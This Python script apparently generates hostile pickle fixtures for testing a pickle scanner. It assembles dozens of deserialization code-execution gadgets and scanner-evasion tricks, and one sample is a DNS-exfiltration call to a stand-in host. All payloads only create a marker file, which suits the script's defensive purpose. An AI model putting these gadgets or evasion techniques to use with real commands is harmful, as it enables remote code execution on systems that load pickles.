#!/usr/bin/python3
"""Hostile pickle fixtures: one or more samples for every attack family of
shared/research/threats.md section 7 A-D, with harmless payloads.

usage: /usr/bin/python3 tests/gen/gen_hostile.py OUTDIR MARKER

Every payload would, at most, create the file MARKER (`touch MARKER`, open(MARKER, 'w'), ...)
or fail harmlessly; the tests assert MARKER never appears. Samples are hand-assembled with
the tiny assembler in brinetest.py, or written by pickle.dumps of a __reduce__ class (dumping
never calls the function). NOTHING here is ever loaded: the only oracle is
brinetest.first_find_class, a C-unpickler subclass whose find_class records the name and
raises before anything is imported. Generation fails when that oracle disagrees with what a
sample claims CPython resolves first, so each sample is proven to reach its callable.

OUTDIR/manifest.json: {file: {"expect": ["unsafe"] | ["unsafe", "invalid"],
  "global": name brine must report (a substring of a finding's global, or of an entry in
  `globals`; joined dotted path for dotted names) or null, "family": "A".."D",
  "technique": text, "rule": a rule some finding must have, or absent,
  "nested_global": the dangerous global inside a nested pickle, or absent,
  "dis": "error" (brine dis must report an error) | "trailing" | null, "first_find_class":
  the raw (module, name) CPython's find_class is asked for first, or null}}
"""

import argparse
import json
import marshal
import os
import pickle
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "python"))
import brinetest  # noqa: E402
from brinetest import (  # noqa: E402
    APPEND, BUILD, DUP, EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE, MARKOP, MEMOIZE, NEWOBJ,
    NEWOBJ_EX, NONE, OBJ, POP, POP_MARK, REDUCE, SETITEM, STACK_GLOBAL, STOP, TUPLE, TUPLE1,
    TUPLE2, binget, binint1, binput, bu, glob, proto, sbb, sbs, sg, string, su, u32, u64, uni)


def build(marker):
    cmd = "touch " + marker
    code = "import os; os.system(%r)" % cmd
    evalsrc = "__import__('os').system(%r)" % cmd

    def tup(*items):
        return MARKOP + b"".join(items) + TUPLE

    def lst(*items):
        return EMPTY_LIST + MARKOP + b"".join(items) + b"e"

    def call(fn, *args):
        return fn + (tup(*args) if args else EMPTY_TUPLE) + REDUCE

    def binint(n):
        return b"J" + n.to_bytes(4, "little", signed=True)

    P2, P4, P5 = proto(2), proto(4), proto(5)
    TRUE, FALSE = b"\x88", b"\x89"

    class Exploit:
        """The seed document's exploit shape: os.system (written as posix.system)."""

        def __reduce__(self):
            return (os.system, (cmd,))

    class InnerExec:
        def __reduce__(self):
            return (exec, (code,))

    inner_os = P2 + glob("os", "system") + tup(uni(cmd)) + REDUCE + STOP
    # a legacy torch file (magic, protocol, sys_info, object, storage keys) whose object
    # pickle is the exploit: torch.load of it, e.g. from torch.storage._load_from_bytes,
    # runs the 4th pickle (threats.md 26b)
    sys_info = {"protocol_version": 1001, "little_endian": True,
                "type_sizes": {"short": 2, "int": 4, "long": 4}}
    legacy = (pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
              + pickle.dumps(sys_info, protocol=2) + pickle.dumps(Exploit(), protocol=2)
              + pickle.dumps([], protocol=2))
    inner_posix = pickle.dumps(Exploit(), protocol=4)
    codeobj = compile(code, "<brine>", "exec")

    def lit(v):
        """A Python literal as opcodes (for code-object fields)."""
        if v is None:
            return NONE
        if isinstance(v, bool):
            return TRUE if v else FALSE
        if isinstance(v, int):
            return binint(v)
        if isinstance(v, str):
            return su(v)
        if isinstance(v, bytes):
            return sbb(v)
        if isinstance(v, tuple):
            return tup(*map(lit, v))
        raise TypeError(type(v))

    c = codeobj
    code_args = (c.co_argcount, c.co_posonlyargcount, c.co_kwonlyargcount, c.co_nlocals,
                 c.co_stacksize, c.co_flags, c.co_code, c.co_consts, c.co_names, c.co_varnames,
                 c.co_filename, c.co_name, c.co_qualname, c.co_firstlineno, c.co_linetable,
                 c.co_exceptiontable, c.co_freevars, c.co_cellvars)

    S = []  # (name, family, technique, data, global, first_find_class, extra)

    def add(name, family, technique, data, global_, first, **extra):
        S.append((name, family, technique, data, global_, first, extra))

    # ---------------------------------------------------------------- A: gadgets
    for p in range(6):
        add("a_seed_exploit_p%d" % p, "A", "the seed's exploit: __reduce__ -> os.system, "
            "protocol %d" % p, pickle.dumps(Exploit(), protocol=p), "posix.system",
            ("posix", "system"))
    add("a_os_system_text", "A", "hand-written GLOBAL os system, protocol 0",
        glob("os", "system") + tup(uni(cmd)) + REDUCE + STOP, "os.system", ("os", "system"))
    add("a_nt_system", "A", "nt.system (os on Windows)",
        P4 + call(sg("nt", "system"), su(cmd)) + STOP, "nt.system", ("nt", "system"))
    add("a_os_popen", "A", "os.popen, protocol 1",
        glob("os", "popen") + MARKOP + b"X" + u32(len(cmd)) + cmd.encode() + TUPLE + REDUCE
        + STOP, "os.popen", ("os", "popen"))
    add("a_pip_main", "A", "pip.main (CVE-2025-1716)",
        P4 + call(sg("pip", "main"), lst(su("install"), su("--no-index"), su("--target"),
                                         su(marker), su("brine-no-such-package"))) + STOP,
        "pip.main", ("pip", "main"))
    add("a_runpy_run_code", "A", "runpy._run_code(code)",
        P4 + call(sg("runpy", "_run_code"), su(code), EMPTY_DICT) + STOP, "runpy._run_code",
        ("runpy", "_run_code"))
    add("a_pkgutil_resolve_name", "A", "pkgutil.resolve_name('os:system')(cmd)",
        P4 + call(call(sg("pkgutil", "resolve_name"), su("os:system")), su(cmd)) + STOP,
        "pkgutil.resolve_name", ("pkgutil", "resolve_name"))
    add("a_cprofile_run", "A", "cProfile.run(code)",
        P4 + call(sg("cProfile", "run"), su(code)) + STOP, "cProfile.run", ("cProfile", "run"))
    add("a_profile_run", "A", "profile.run(code)",
        P4 + call(sg("profile", "run"), su(code)) + STOP, "profile.run", ("profile", "run"))
    add("a_timeit", "A", "timeit.timeit('', setup=code)",
        P4 + call(sg("timeit", "timeit"), su(""), su(code)) + STOP, "timeit.timeit",
        ("timeit", "timeit"))
    add("a_trace_runctx", "A", "trace.Trace.runctx(Trace(), code, {}, {}) (dotted)",
        P4 + call(sg("trace", "Trace.runctx"), call(sg("trace", "Trace")), su(code),
                  EMPTY_DICT, EMPTY_DICT) + STOP, "trace.Trace.runctx",
        ("trace", "Trace.runctx"))
    add("a_pydoc_pipepager", "A", "pydoc.pipepager('', cmd)",
        P4 + call(sg("pydoc", "pipepager"), su(""), su(cmd)) + STOP, "pydoc.pipepager",
        ("pydoc", "pipepager"))
    add("a_venv_create", "A", "venv.create(..., prompt='$(cmd)')",
        P4 + call(sg("venv", "create"), su(marker + ".venv"), FALSE, FALSE, TRUE, FALSE,
                  su("$(" + cmd + ")")) + STOP, "venv.create", ("venv", "create"))
    add("a_functools_partial", "A", "functools.partial(os.system, cmd)() hides the call",
        P4 + call(call(sg("functools", "partial"), sg("os", "system"), su(cmd))) + STOP,
        "functools.partial", ("functools", "partial"))
    add("a_operator_attrgetter", "A",
        "operator.attrgetter('system')(importlib.import_module('os'))(cmd)",
        P4 + call(call(call(sg("operator", "attrgetter"), su("system")),
                       call(sg("importlib", "import_module"), su("os"))), su(cmd)) + STOP,
        "operator.attrgetter", ("operator", "attrgetter"))
    add("a_operator_methodcaller", "A",
        "operator.methodcaller('system', cmd)(pydoc.locate('os')) (GHSA-84r2-jw7c-4r5q)",
        P4 + call(call(sg("operator", "methodcaller"), su("system"), su(cmd)),
                  call(sg("pydoc", "locate"), su("os"))) + STOP,
        "operator.methodcaller", ("operator", "methodcaller"))
    add("a__operator_methodcaller", "A", "_operator.methodcaller, text GLOBAL, protocol 2",
        P2 + glob("_operator", "methodcaller") + tup(uni("system"), uni(cmd)) + REDUCE
        + tup(glob("__builtin__", "__import__") + tup(uni("os")) + REDUCE) + REDUCE + STOP,
        "_operator.methodcaller", ("_operator", "methodcaller"))
    add("a_builtins_eval", "A", "builtins.eval(source)",
        P4 + call(sg("builtins", "eval"), su(evalsrc)) + STOP, "builtins.eval",
        ("builtins", "eval"))
    add("a_builtins_exec", "A", "builtins.exec(source)",
        P4 + call(sg("builtins", "exec"), su(code)) + STOP, "builtins.exec",
        ("builtins", "exec"))
    add("a_builtins_compile", "A", "builtins.exec(builtins.compile(source))",
        P4 + call(sg("builtins", "exec"),
                  call(sg("builtins", "compile"), su(code), su("<brine>"), su("exec"))) + STOP,
        "builtins.compile", ("builtins", "exec"))
    add("a_builtins_getattr", "A", "builtins.getattr(__import__('os'), 'system')(cmd)",
        P4 + call(call(sg("builtins", "getattr"), call(sg("builtins", "__import__"), su("os")),
                       su("system")), su(cmd)) + STOP, "builtins.getattr",
        ("builtins", "getattr"))
    add("a_builtin_import_py2", "A", "__builtin__.__import__ + __builtin__.getattr, protocol 2",
        P2 + glob("__builtin__", "getattr") + MARKOP + glob("__builtin__", "__import__")
        + tup(uni("os")) + REDUCE + uni("system") + TUPLE + REDUCE + tup(uni(cmd)) + REDUCE
        + STOP, "builtins.__import__", ("__builtin__", "getattr"))
    add("a_builtins_open", "A", "builtins.open(MARKER, 'w') creates a file",
        P4 + call(sg("builtins", "open"), su(marker), su("w")) + STOP, "builtins.open",
        ("builtins", "open"))
    add("a_types_codetype", "A", "types.FunctionType(types.CodeType(...), {})()",
        P4 + call(call(sg("types", "FunctionType"), call(sg("types", "CodeType"),
                                                         *map(lit, code_args)), EMPTY_DICT))
        + STOP, "types.CodeType", ("types", "FunctionType"))
    add("a_marshal_loads", "A", "types.FunctionType(marshal.loads(bytes), {})()",
        P4 + call(call(sg("types", "FunctionType"),
                       call(sg("marshal", "loads"), sbb(marshal.dumps(codeobj))), EMPTY_DICT))
        + STOP, "marshal.loads", ("types", "FunctionType"))
    add("a_ctypes_cdll", "A", "ctypes.CDLL(None)",
        P4 + call(sg("ctypes", "CDLL"), NONE) + STOP, "ctypes.CDLL", ("ctypes", "CDLL"))
    add("a_socket", "A", "socket.create_connection(('127.0.0.1', 9))",
        P4 + call(sg("socket", "create_connection"), tup(su("127.0.0.1"), binint1(9))) + STOP,
        "socket.create_connection", ("socket", "create_connection"))
    add("a_webbrowser", "A", "webbrowser.open(url)",
        P4 + call(sg("webbrowser", "open"), su("file://" + marker)) + STOP, "webbrowser.open",
        ("webbrowser", "open"))
    add("a_logging_filehandler", "A", "logging.FileHandler(MARKER) creates a file",
        P4 + call(sg("logging", "FileHandler"), su(marker)) + STOP, "logging.FileHandler",
        ("logging", "FileHandler"))
    add("a__io_fileio", "A", "_io.FileIO(MARKER, 'w') creates a file",
        P4 + call(sg("_io", "FileIO"), su(marker), su("w")) + STOP, "_io.FileIO",
        ("_io", "FileIO"))
    add("a_shutil_copyfile", "A", "shutil.copyfile('/dev/null', MARKER)",
        P4 + call(sg("shutil", "copyfile"), su("/dev/null"), su(marker)) + STOP,
        "shutil.copyfile", ("shutil", "copyfile"))
    add("a_torch_collect_env_run", "A", "torch.utils.collect_env.run(cmd)",
        P4 + call(sg("torch.utils.collect_env", "run"), su(cmd)) + STOP,
        "torch.utils.collect_env.run", ("torch.utils.collect_env", "run"))
    add("a_torch_codecache_compile_file", "A",
        "torch._inductor.codecache.compile_file('', '', ['sh', '-c', cmd])",
        P4 + call(sg("torch._inductor.codecache", "compile_file"), su(""), su(""),
                  lst(su("sh"), su("-c"), su(cmd))) + STOP,
        "torch._inductor.codecache.compile_file", ("torch._inductor.codecache", "compile_file"))
    add("a_torch_serialization_load", "A", "torch.serialization.load(another file)",
        P4 + call(sg("torch.serialization", "load"), su(marker + ".pt")) + STOP,
        "torch.serialization.load", ("torch.serialization", "load"))
    add("a_pickle_loads_nested", "A", "pickle.loads(inner malicious pickle)",
        P4 + call(sg("pickle", "loads"), sbb(inner_os)) + STOP, "pickle.loads",
        ("pickle", "loads"), nested_global="os.system", nested=inner_os)
    add("a__pickle_loads_nested", "A", "_pickle.loads(inner malicious pickle, protocol 4)",
        P4 + call(sg("_pickle", "loads"), sbb(inner_posix)) + STOP, "_pickle.loads",
        ("_pickle", "loads"), nested_global="posix.system", nested=inner_posix)
    add("a_load_from_bytes_legacy", "A",
        "torch.storage._load_from_bytes(legacy torch file whose object pickle is the exploit)",
        P4 + call(sg("torch.storage", "_load_from_bytes"), b"B" + u32(len(legacy)) + legacy)
        + STOP, "torch.storage._load_from_bytes", ("torch.storage", "_load_from_bytes"),
        nested_global="posix.system", nested=legacy)
    add("a_load_from_bytes_legacy_p2", "A",
        "torch.storage._load_from_bytes(_codecs.encode(latin-1 text, 'latin1')), protocol 2",
        P2 + glob("torch.storage", "_load_from_bytes") + tup(
            glob("_codecs", "encode") + tup(bu(legacy.decode("latin-1")), uni("latin1"))
            + REDUCE) + REDUCE + STOP, "torch.storage._load_from_bytes",
        ("torch.storage", "_load_from_bytes"), nested_global="posix.system",
        nested=legacy)
    add("a_load_from_bytes_raw", "A", "torch.storage._load_from_bytes(a plain exploit pickle)",
        P4 + call(sg("torch.storage", "_load_from_bytes"), sbb(inner_posix)) + STOP,
        "torch.storage._load_from_bytes", ("torch.storage", "_load_from_bytes"),
        nested_global="posix.system", nested=inner_posix)
    # GHSA-97f8-7cmv-76j2: the magic number itself is computed by eval
    eval_magic = (P2 + glob("__builtin__", "eval") + tup(uni("0x1950A86A20F9469CFC6C"))
                  + REDUCE + STOP)
    legacy_eval = eval_magic + legacy[len(pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)):]
    add("a_load_from_bytes_eval_magic", "A",
        "torch.storage._load_from_bytes(legacy file whose magic number is eval('0x1950...'))",
        P4 + call(sg("torch.storage", "_load_from_bytes"),
                  b"B" + u32(len(legacy_eval)) + legacy_eval) + STOP,
        "torch.storage._load_from_bytes", ("torch.storage", "_load_from_bytes"),
        nested_global="builtins.eval", nested=legacy_eval)
    add("a_numpy_runstring", "A", "numpy.testing._private.utils.runstring(code, {})",
        P4 + call(sg("numpy.testing._private.utils", "runstring"), su(code), EMPTY_DICT) + STOP,
        "numpy.testing._private.utils.runstring", ("numpy.testing._private.utils", "runstring"))
    add("a_asyncio_unix_events", "A",
        "asyncio.unix_events._UnixSubprocessTransport._start (CVE-2025-10157, dotted)",
        P4 + call(sg("asyncio.unix_events", "_UnixSubprocessTransport._start"), EMPTY_DICT,
                  su(cmd), TRUE, NONE, NONE, NONE, binint1(0)) + STOP,
        "asyncio.unix_events._UnixSubprocessTransport._start",
        ("asyncio.unix_events", "_UnixSubprocessTransport._start"))
    add("a_asyncio_subprocess", "A", "asyncio.subprocess.create_subprocess_shell(cmd)",
        P4 + call(sg("asyncio.subprocess", "create_subprocess_shell"), su(cmd)) + STOP,
        "asyncio.subprocess.create_subprocess_shell",
        ("asyncio.subprocess", "create_subprocess_shell"))
    for fn in ("getoutput", "check_call", "Popen", "run"):
        arg = su(cmd) if fn == "getoutput" else lst(su("touch"), su(marker))
        add("a_subprocess_" + fn.lower(), "A", "subprocess.%s(...)" % fn,
            P4 + call(sg("subprocess", fn), arg) + STOP, "subprocess." + fn,
            ("subprocess", fn))
    add("a_multiprocessing_spawnv", "A", "multiprocessing.util.spawnv_passfds",
        P4 + call(sg("multiprocessing.util", "spawnv_passfds"), sbb(b"/bin/sh"),
                  tup(su("/bin/sh"), su("-c"), su(cmd)), EMPTY_TUPLE) + STOP,
        "multiprocessing.util.spawnv_passfds", ("multiprocessing.util", "spawnv_passfds"))
    add("a_importlib_import_module", "A",
        "importlib.import_module('os') + operator.methodcaller('system', cmd)",
        P4 + call(call(sg("_operator", "methodcaller"), su("system"), su(cmd)),
                  call(sg("importlib", "import_module"), su("os"))) + STOP,
        "importlib.import_module", ("_operator", "methodcaller"))
    add("a_pty_spawn", "A", "pty.spawn(['/bin/sh', '-c', cmd])",
        P4 + call(sg("pty", "spawn"), lst(su("/bin/sh"), su("-c"), su(cmd))) + STOP,
        "pty.spawn", ("pty", "spawn"))
    add("a_uuid_get_command_stdout", "A", "uuid._get_command_stdout('touch', MARKER)",
        P4 + call(sg("uuid", "_get_command_stdout"), su("touch"), su(marker)) + STOP,
        "uuid._get_command_stdout", ("uuid", "_get_command_stdout"))
    add("a_imaplib_stream", "A", "imaplib.IMAP4_stream(cmd) (Popen shell=True)",
        P4 + call(sg("imaplib", "IMAP4_stream"), su(cmd)) + STOP, "imaplib.IMAP4_stream",
        ("imaplib", "IMAP4_stream"))
    add("a_doctest_debug_script", "A", "doctest.debug_script(code)",
        P4 + call(sg("doctest", "debug_script"), su(code)) + STOP, "doctest.debug_script",
        ("doctest", "debug_script"))
    add("a_ssl_dns", "A", "ssl.get_server_certificate((host, 443)): DNS exfiltration",
        P4 + call(sg("ssl", "get_server_certificate"),
                  tup(su("brine-test.invalid"), binint(443))) + STOP,
        "ssl.get_server_certificate", ("ssl", "get_server_certificate"))
    add("a_exec_via_reduce_class", "A", "__reduce__ -> builtins.exec, pickle.dumps protocol 2",
        pickle.dumps(InnerExec(), protocol=2), "builtins.exec", ("__builtin__", "exec"))

    # ---------------------------------------------------------------- B: name resolution
    for module, name in (("torch", "serialization.os.system"), ("random", "_os.system"),
                         ("pathlib", "os.system")):
        add("b_dotted_%s" % module, "B", "STACK_GLOBAL %r + %r (protocol 4 walks dots)"
            % (module, name), P4 + call(sg(module, name), su(cmd)) + STOP,
            module + "." + name, (module, name), rule="dotted-name")
    add("b_dotted_text_global", "B", "text GLOBAL with a dotted name at protocol 4",
        P4 + glob("torch", "serialization.os.system") + tup(su(cmd)) + REDUCE + STOP,
        "torch.serialization.os.system", ("torch", "serialization.os.system"),
        rule="dotted-name")
    add("b_numpy_builtins", "B", "_operator.getitem(numpy.__builtins__, 'eval')(source)",
        P4 + call(call(sg("_operator", "getitem"), sg("numpy", "__builtins__"), su("eval")),
                  su(evalsrc)) + STOP, "numpy.__builtins__", ("_operator", "getitem"))
    add("b_py2_commands_getoutput", "B", "commands.getoutput -> subprocess.getoutput, proto 2",
        P2 + glob("commands", "getoutput") + tup(uni(cmd)) + REDUCE + STOP,
        "subprocess.getoutput", ("commands", "getoutput"))
    add("b_py2_commands_noproto", "B", "commands.getoutput with no PROTO (protocol 0)",
        glob("commands", "getoutput") + tup(string(cmd)) + REDUCE + STOP,
        "subprocess.getoutput", ("commands", "getoutput"))
    add("b_py2_builtin_eval", "B", "__builtin__.eval, protocol 0",
        glob("__builtin__", "eval") + tup(uni(evalsrc)) + REDUCE + STOP, "builtins.eval",
        ("__builtin__", "eval"))
    add("b_py2_cpickle_loads", "B", "cPickle.loads(_codecs.encode(inner, 'latin1')), proto 2",
        P2 + glob("cPickle", "loads") + tup(glob("_codecs", "encode")
                                            + tup(uni(inner_os.decode("latin-1")), uni("latin1"))
                                            + REDUCE) + REDUCE + STOP,
        "pickle.loads", ("cPickle", "loads"), nested_global="os.system", nested=inner_os)
    add("b_py2_builtin_reduce", "B", "__builtin__.reduce -> functools.reduce (NAME_MAPPING): "
        "reduce(exec, [code, {}]) calls exec(code, {})",
        P2 + glob("__builtin__", "reduce") + tup(glob("__builtin__", "exec"),
                                                 lst(uni(code), EMPTY_DICT)) + REDUCE + STOP,
        "functools.reduce", ("__builtin__", "reduce"))
    add("b_build_poison_modelscan85", "B",
        "BUILD sets numpy.prod.a/.b, then STACK_GLOBAL on the poisoned attributes (#85)",
        P5 + glob("numpy", "prod") + NONE + MARKOP + uni("a") + uni("os") + b"d" + TUPLE2 + BUILD
        + NONE + MARKOP + uni("b") + uni("system") + b"d" + TUPLE2 + BUILD + POP
        + glob("numpy", "prod.a") + b"p0\n" + glob("numpy", "prod.b") + b"p1\n" + POP + POP
        + b"g0\ng1\n" + STACK_GLOBAL + uni(cmd) + TUPLE1 + REDUCE + STOP,
        "numpy.prod", ("numpy", "prod"), rule="global-mutation")
    add("b_numpy_size_gadget", "B",
        "BUILD numpy.size.shape = numpy.__builtins__; numpy.size(numpy.size, 'eval') (#330)",
        P4 + sg("numpy", "size") + MEMOIZE + EMPTY_DICT + EMPTY_DICT + su("shape")
        + sg("numpy", "__builtins__") + SETITEM + TUPLE2 + BUILD + POP
        + binget(0) + binget(0) + su("eval") + TUPLE2 + REDUCE + su(evalsrc) + TUPLE1 + REDUCE
        + STOP, "numpy.size", ("numpy", "size"), rule="global-mutation")
    add("b_build_on_allowed_class", "B",
        "BUILD on the allowlisted class collections.Counter changes it for the process",
        P4 + sg("collections", "Counter") + NONE + EMPTY_DICT + su("most_common") + su("x")
        + SETITEM + TUPLE2 + BUILD + POP + EMPTY_DICT + STOP,
        "collections.Counter", ("collections", "Counter"), rule="global-mutation")
    add("b_proto_switch_to_2", "B", "PROTO 4 then PROTO 2 mid-stream: commands.getoutput is "
        "mapped to subprocess.getoutput because the protocol is now 2",
        P4 + NONE + POP + P2 + glob("commands", "getoutput") + tup(uni(cmd)) + REDUCE + STOP,
        "subprocess.getoutput", ("commands", "getoutput"))
    add("b_proto_switch_to_4", "B", "PROTO 2 then PROTO 4 mid-stream: the dotted name "
        "random._os.system resolves because the protocol is now 4",
        P2 + NONE + POP + P4 + call(sg("random", "_os.system"), su(cmd)) + STOP,
        "random._os.system", ("random", "_os.system"), rule="dotted-name")
    add("b_append_to_global", "B", "APPEND on a global: sys.path.append(MARKER)",
        P4 + sg("sys", "path") + su(marker) + APPEND + POP + NONE + STOP, "sys.path",
        ("sys", "path"), rule="global-mutation")
    for op, arg in ((b"\x82", b"\x01"), (b"\x83", b"\x02\x01"), (b"\x84", b"\x03\x02\x01\x00")):
        n = {b"\x82": 1, b"\x83": 2, b"\x84": 4}[op]
        add("b_ext%d" % n, "B", "EXT%d: a callable named by number (copyreg registry)" % n,
            P2 + op + arg + tup(uni(cmd)) + REDUCE + STOP, None, None, rule="ext-opcode")

    # ---------------------------------------------------------------- C: parser differentials
    add("c_memo_put_after_get", "C", "PUT after GET records the memo value, not the argument",
        P4 + su("os") + binput(0) + binget(0) + binput(1) + POP + POP + su("system")
        + binput(2) + POP + binget(1) + binget(2) + STACK_GLOBAL + su(cmd) + TUPLE1 + REDUCE
        + STOP, "os.system", ("os", "system"))
    add("c_memo_decoys", "C", "operands from the memo; decoy literals just before",
        P4 + su("os") + binput(2) + POP + su("system") + binput(3) + POP + su("torch")
        + binput(0) + POP + su("FloatStorage") + binput(1) + POP + binget(2) + binget(3)
        + STACK_GLOBAL + su(cmd) + TUPLE1 + REDUCE + STOP, "os.system", ("os", "system"))
    add("c_memo_memoize_mixed", "C", "MEMOIZE after BINPUT 5 stores at len(memo), not 6",
        P4 + su("x") + binput(5) + POP + su("os") + MEMOIZE + POP + su("system") + MEMOIZE
        + POP + binget(1) + binget(2) + STACK_GLOBAL + su(cmd) + TUPLE1 + REDUCE + STOP,
        "os.system", ("os", "system"))
    add("c_memo_overwrite", "C", "BINPUT 0 twice: the later value wins",
        P4 + su("torch") + binput(0) + POP + su("FloatStorage") + binput(1) + POP
        + su("os") + binput(0) + POP + su("system") + binput(1) + POP + binget(0) + binget(1)
        + STACK_GLOBAL + su(cmd) + TUPLE1 + REDUCE + STOP, "os.system", ("os", "system"))
    add("c_memo_put_after_dup", "C", "PUT after DUP stores the duplicated value",
        P4 + su("os") + DUP + binput(0) + POP + POP + su("system") + DUP + binput(1) + POP
        + POP + binget(0) + binget(1) + STACK_GLOBAL + su(cmd) + TUPLE1 + REDUCE + STOP,
        "os.system", ("os", "system"))
    add("c_string_operands_noproto", "C",
        "STACK_GLOBAL on STRING operands at offset 0, no PROTO (GHSA-9gvj-pp9x-gcfr)",
        string("os") + string("system") + STACK_GLOBAL + string(cmd) + TUPLE1 + REDUCE + STOP,
        "os.system", ("os", "system"))
    add("c_unicode_operands", "C", "STACK_GLOBAL on protocol-0 UNICODE operands",
        uni("os") + uni("system") + STACK_GLOBAL + uni(cmd) + TUPLE1 + REDUCE + STOP,
        "os.system", ("os", "system"))
    add("c_binunicode8_operands", "C", "STACK_GLOBAL on BINUNICODE8 operands",
        P4 + b"".join(b"\x8d" + u64(len(x)) + x for x in (b"os", b"system")) + STACK_GLOBAL
        + su(cmd) + TUPLE1 + REDUCE + STOP, "os.system", ("os", "system"))
    add("c_memo_text_get", "C", "operands through text PUT/GET, then POPs in between",
        uni("os") + b"p10\n" + POP + uni("system") + b"p20\n" + POP + b"g10\ng20\n"
        + STACK_GLOBAL + uni(cmd) + TUPLE1 + REDUCE + STOP, "os.system", ("os", "system"))
    add("c_binstring_operands", "C", "STACK_GLOBAL on SHORT_BINSTRING operands",
        sbs("os") + sbs("system") + STACK_GLOBAL + sbs(cmd) + TUPLE1 + REDUCE + STOP,
        "os.system", ("os", "system"))
    add("c_obj_pop_smtplib", "C", "OBJ result discarded by POP (GHSA-mxhj-88fx-4pcv)",
        P4 + MARKOP + sg("smtplib", "SMTP") + su("127.0.0.1") + OBJ + POP + NONE + STOP,
        "smtplib.SMTP", ("smtplib", "SMTP"))
    add("c_obj_pop_os_system", "C", "OBJ os.system(cmd), result popped, returns None",
        MARKOP + glob("os", "system") + uni(cmd) + OBJ + POP + NONE + STOP, "os.system",
        ("os", "system"))
    add("c_inst_os_system", "C", "INST os system (call site without REDUCE)",
        MARKOP + uni(cmd) + b"ios\nsystem\n" + STOP, "os.system", ("os", "system"))
    add("c_inst_builtin_exec", "C", "INST __builtin__ exec with a STRING argument",
        MARKOP + string(code) + b"i__builtin__\nexec\n" + STOP, "builtins.exec",
        ("__builtin__", "exec"))
    add("c_newobj_popen", "C", "NEWOBJ subprocess.Popen",
        P2 + glob("subprocess", "Popen") + tup(lst(su("touch"), su(marker))) + NEWOBJ + STOP,
        "subprocess.Popen", ("subprocess", "Popen"))
    add("c_newobj_ex_popen", "C", "NEWOBJ_EX subprocess.Popen",
        P4 + sg("subprocess", "Popen") + tup(lst(su("touch"), su(marker))) + EMPTY_DICT
        + NEWOBJ_EX + STOP, "subprocess.Popen", ("subprocess", "Popen"))
    add("c_dynamic_stack_global", "C",
        "STACK_GLOBAL operands computed by the allowlisted _codecs.encode('bf', 'rot13')",
        P4 + sg("_codecs", "encode") + MEMOIZE + tup(su("bf"), su("rot13")) + REDUCE
        + binget(0) + tup(su("flfgrz"), su("rot13")) + REDUCE + STACK_GLOBAL + su(cmd)
        + TUPLE1 + REDUCE + STOP, None, ("_codecs", "encode"), rule="dynamic-global")
    # torch/_tensor.py: _rebuild_from_type_v2(func, new_type, args, state) starts with
    # `if new_type is Tensor: return func(*args)`: an allowlisted trampoline to any callable
    add("c_rebuild_from_type_v2_trampoline", "C",
        "allowlisted _rebuild_from_type_v2 calls func(*args): func = _load_from_bytes, "
        "args = a malicious pickle",
        P4 + call(sg("torch._tensor", "_rebuild_from_type_v2"),
                  sg("torch.storage", "_load_from_bytes"), sg("torch", "Tensor"),
                  tup(sbb(inner_posix)), EMPTY_DICT) + STOP,
        "torch._tensor._rebuild_from_type_v2", ("torch._tensor", "_rebuild_from_type_v2"),
        nested_global="posix.system", nested=inner_posix)
    add("c_reduce_result_popped", "C", "os.system called, result popped, returns None",
        P2 + glob("os", "system") + tup(uni(cmd)) + REDUCE + POP + NONE + STOP, "os.system",
        ("os", "system"))
    add("c_build_setstate_gadget", "C",
        "BUILD plants __setstate__ = os.system on an instance; a second BUILD calls it",
        P4 + call(sg("argparse", "Namespace")) + EMPTY_DICT + su("__setstate__")
        + sg("os", "system") + SETITEM + BUILD + su(cmd) + BUILD + STOP, "os.system",
        ("argparse", "Namespace"), rule="dunder-state")
    add("c_build_setstate_allowlisted", "C",
        "BUILD-twice with allowlisted names only: an OrderedDict gets __setstate__ = "
        "torch.storage._load_from_bytes, the second BUILD hands it a malicious pickle",
        P4 + sg("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + EMPTY_DICT
        + su("__setstate__") + sg("torch.storage", "_load_from_bytes") + SETITEM + BUILD
        + sbb(inner_posix) + BUILD + STOP, "torch.storage._load_from_bytes",
        ("collections", "OrderedDict"), rule="dunder-state")
    # threats.md item 21 (CPython gh-154848): the BINBYTES straddles the 2-byte FRAME; the C
    # unpickler on a stream runs the GLOBAL/REDUCE hidden in what pickletools calls data
    hidden = glob("os", "system") + uni(cmd) + TUPLE1 + REDUCE + MARKOP
    assert len(hidden) <= 261
    hidden += NONE * (261 - len(hidden))
    add("c_frame_straddle", "C", "BINBYTES straddles a FRAME end (gh-154848)",
        P5 + NONE + b"V" + b"a" * (131072 - 17) + b"\n" + POP + MARKOP + b"\x95" + u64(2)
        + b"B" + u32(0x107) + b"\x00\x00" + hidden + POP_MARK + STOP, None, ("os", "system"),
        rule="frame-boundary")
    add("c_concat_benign_then_malicious", "C", "a benign pickle, then a malicious one",
        pickle.dumps([1, 2, 3], protocol=4) + pickle.dumps(Exploit(), protocol=4),
        "posix.system", ("posix", "system"))
    add("c_concat_memo_not_reset", "C",
        "second pickle's MEMOIZE indices restart at 0: a shared memo would see decoys",
        P4 + su("torch") + MEMOIZE + su("FloatStorage") + MEMOIZE + TUPLE2 + STOP
        + P4 + su("os") + MEMOIZE + su("system") + MEMOIZE + POP + POP + binget(0) + binget(1)
        + STACK_GLOBAL + su(cmd) + TUPLE1 + REDUCE + STOP, "os.system", ("os", "system"))

    # ---------------------------------------------------------------- D: error paths
    exploit2 = pickle.dumps(Exploit(), protocol=2)
    exploit4 = pickle.dumps(Exploit(), protocol=4)
    payload4 = P4 + sg("os", "system") + tup(su(cmd)) + REDUCE
    add("d_nullifai", "D", "os.system then junk, no STOP (nullifAI)",
        P2 + glob("os", "system") + tup(uni(cmd)) + REDUCE + b"\xff\xfe junk", "os.system",
        ("os", "system"), dis="error")
    add("d_no_stop_proto4", "D", "pickle.dumps output with STOP replaced by an invalid opcode",
        exploit4[:-1] + b"\xff", "posix.system", ("posix", "system"), dis="error")
    add("d_trailing_junk", "D", "payload, STOP, then junk (malicious-invalid-bytes.pkl)",
        exploit2 + b"\xff\xfe junk after stop", "posix.system", ("posix", "system"),
        dis="trailing", rule="trailing-data")
    add("d_missing_memo_after_payload", "D", "payload, then BINGET of an unset memo key",
        payload4 + POP + binget(9) + binget(10) + STACK_GLOBAL + STOP, "os.system",
        ("os", "system"))
